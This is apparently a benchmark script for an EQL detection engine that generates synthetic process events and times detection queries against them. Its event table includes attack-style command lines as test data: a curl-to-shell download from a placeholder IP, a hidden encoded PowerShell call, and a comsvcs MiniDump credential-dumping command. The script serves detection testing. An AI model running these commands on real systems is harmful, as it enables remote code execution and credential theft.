// EQL on the embedded engine: 100,000 process events of 200 hosts, the EQL event queries and two-step sequences of the corpus beside the
// repository, and queries of our own. Goals: the median event query ≤ 50 ms, a two-step sequence by host ≤ 200 ms. Where PyPI's `eql` is
// installed, `python3` runs our own queries on the same events.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import toml from '@iarna/toml';
import { EmbeddedCluster } from '../../dist/engine/embedded/embedded-cluster.js';
import { catalogueOf } from '../../dist/schemas/fields/profiles.js';
import { toIndexDefinition } from '../../dist/schemas/fields/to-index-definition.js';
import { COUNT } from './cloudtrail-documents.mjs';
import { best, measure, median } from './measure.mjs';

const INDEX = 'bench-process';
const START = Date.parse('2026-05-01T00:00:00Z');
const PROGRAMS = [
  ['cmd.exe', 'C:\\Windows\\System32\\cmd.exe', '/c whoami /all'],
  ['powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-nop -w hidden -enc SQBFAFgA'],
  ['svchost.exe', 'C:\\Windows\\System32\\svchost.exe', '-k netsvcs -p -s Schedule'],
  ['rundll32.exe', 'C:\\Windows\\System32\\rundll32.exe', 'comsvcs.dll, MiniDump 624 out.dmp full'],
  ['chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '--type=renderer'],
  ['explorer.exe', 'C:\\Windows\\explorer.exe', ''],
  ['reg.exe', 'C:\\Windows\\System32\\reg.exe', 'query HKLM\\Software\\Policies'],
  ['bash', '/usr/bin/bash', '-c "curl -s http://203.0.113.7/a | sh"'],
  ['curl', '/usr/bin/curl', '-s http://203.0.113.7/a'],
  ['sshd', '/usr/sbin/sshd', '-D'],
];

/** The event at a place of the stream; the same in every run. */
function processEvent(at) {
  const [name, executable, rest] = PROGRAMS[(at * 7 + (at >> 5)) % PROGRAMS.length];
  const [parent, parentPath] = PROGRAMS[(at * 3 + (at >> 7)) % PROGRAMS.length];
  const windows = executable.startsWith('C:');
  const args = [executable, ...(rest === '' ? [] : rest.split(' '))];
  return {
    '@timestamp': new Date(START + at * 250).toISOString(),
    event: {
      category: ['process'],
      type: [at % 3 === 2 ? 'end' : 'start'],
      action: at % 3 === 2 ? 'end' : 'exec',
      id: `e-${at}`,
    },
    host: {
      id: `host-${(at * 31 + (at >> 3)) % 200}`,
      name: `pc-${(at * 31 + (at >> 3)) % 200}`,
      os: { type: windows ? 'windows' : 'linux' },
    },
    user: { id: windows ? `S-1-5-21-${at % 300}` : `${at % 300}`, name: `user${at % 300}`, domain: 'corp' },
    process: {
      name,
      executable,
      pid: 1000 + (at % 30_000),
      entity_id: `p-${at - (at % 3)}`,
      command_line: `${executable} ${rest} ${at % 500}`,
      args,
      args_count: args.length,
      parent: { name: parent, executable: parentPath, entity_id: `p-${(at * 11) % 9973}` },
      working_directory: windows ? 'C:\\Users\\Public' : '/tmp',
    },
  };
}

const EVENTS = {
  'by name': 'process where event.type == "start" and process.name : "rundll32.exe"',
  'with wildcards':
    'process where event.type == "start" and process.command_line : ("*minidump*", "*comsvcs*") and not user.name : "user1*"',
  'with a function': 'process where endsWith~(process.executable, "\\\\POWERSHELL.EXE") and process.args_count >= 3',
};
const SEQUENCES = {
  'two steps by host':
    'sequence by host.id with maxspan=1m [process where event.type == "start" and process.name : "cmd.exe"] [process where event.type == "start" and process.name : "rundll32.exe"]',
  'two steps by process':
    'sequence by process.entity_id [process where event.type == "start"] [process where event.type == "end"]',
};

/** EQL rules of the corpus: events, and sequences of two steps. */
function corpusRules() {
  const folder = new URL('../../../shared/corpus/rules/', import.meta.url);
  if (!existsSync(folder)) return { events: [], sequences: [] };
  const queries = readdirSync(folder, { recursive: true })
    .filter((name) => name.endsWith('.toml'))
    .sort()
    .flatMap((name) => {
      const text = readFileSync(new URL(name, folder), 'utf8');
      return /^(?:type|language) = "eql"/mu.test(text) ? [[name, toml.parse(text).rule.query.trim()]] : [];
    });
  return {
    events: queries.filter(([, query]) => !/^(?:sequence|sample)\b/u.test(query)),
    sequences: queries.filter(
      ([, query]) => /^sequence\b/u.test(query) && query.match(/\[\s*\w+ where/gu)?.length === 2,
    ),
  };
}

const cluster = new EmbeddedCluster({ clock: () => new Date(START) });
await cluster.createIndex(INDEX, toIndexDefinition(catalogueOf(['endpoint'])));
const lines = Array.from({ length: COUNT }, (_, at) => JSON.stringify(processEvent(at)));
await cluster.bulk(lines.map((source, at) => ({ _index: INDEX, _id: String(at), source })));
console.log(`${COUNT} process events`);

const run = (query) => cluster.eql({ index: INDEX, query, size: 100 });

async function timed(queries, isNamed) {
  const times = [];
  for (const [name, query] of queries) {
    try {
      const first = await measure(() => run(query));
      const { wall, cpu } = await best(3, () => run(query));
      times.push({ wall, cpu });
      if (isNamed || process.env['BENCH_VERBOSE'])
        console.log(
          `${name}: ${wall.toFixed(1)} ms (CPU ${cpu.toFixed(1)}; the first run ${first.wall.toFixed(1)}, CPU ${first.cpu.toFixed(1)})`,
        );
    } catch {
      // A query of fields that these events' mapping lacks.
    }
  }
  return times;
}

const report = (what, times, all, goal) => {
  if (times.length === 0) return;
  const [wall, cpu] = [times.map((time) => time.wall), times.map((time) => time.cpu)];
  console.log(
    `${times.length} of ${all.length} ${what} of the corpus: median ${median(wall).toFixed(1)} ms (CPU ${median(cpu).toFixed(1)}), slowest ${Math.max(...wall).toFixed(0)} ms (goal: median at most ${goal})`,
  );
};
const { events, sequences } = corpusRules();
await timed(Object.entries(EVENTS), true);
report('event queries', await timed(events, false), events, 50);
await timed(Object.entries(SEQUENCES), true);
report('two-step sequences', await timed(sequences, false), sequences, 200);

// Values that are lists of one become the value: the package does not look into lists. Times count 100 nanoseconds there.
const PYTHON = `
import json, sys, time
from eql.engine import PythonEngine
from eql.events import Event
from eql.parser import elasticsearch_syntax, parse_query
def plain(value):
    if isinstance(value, dict): return {key: plain(item) for key, item in value.items()}
    return value[0] if isinstance(value, list) and len(value) == 1 else value
with open(sys.argv[1]) as lines: events = [Event('process', at * 2500000, plain(json.loads(line))) for at, line in enumerate(lines)]
with open(sys.argv[2]) as file: queries = json.load(file)
for name, query in queries.items():
    found = []
    with elasticsearch_syntax: tree = parse_query(query)
    engine = PythonEngine()
    engine.add_query(tree)
    engine.add_output_hook(found.append)
    start = time.perf_counter()
    engine.stream_events(events)
    print('PyPI eql: %s: %.0f ms, %d found' % (name, (time.perf_counter() - start) * 1000, len(found)))
`;
if (spawnSync('python3', ['-c', 'import eql']).status === 0) {
  const folder = mkdtempSync(join(tmpdir(), 'dragnet-bench-'));
  try {
    writeFileSync(join(folder, 'events.ndjson'), lines.join('\n'));
    writeFileSync(join(folder, 'queries.json'), JSON.stringify({ ...EVENTS, ...SEQUENCES }));
    const peer = spawnSync('python3', ['-c', PYTHON, join(folder, 'events.ndjson'), join(folder, 'queries.json')], {
      encoding: 'utf8',
    });
    console.log(peer.status === 0 ? peer.stdout.trim() : `PyPI eql failed: ${peer.stderr.trim().split('\n').at(-1)}`);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
} else console.log('PyPI eql: not installed (python3 -m pip install eql)');
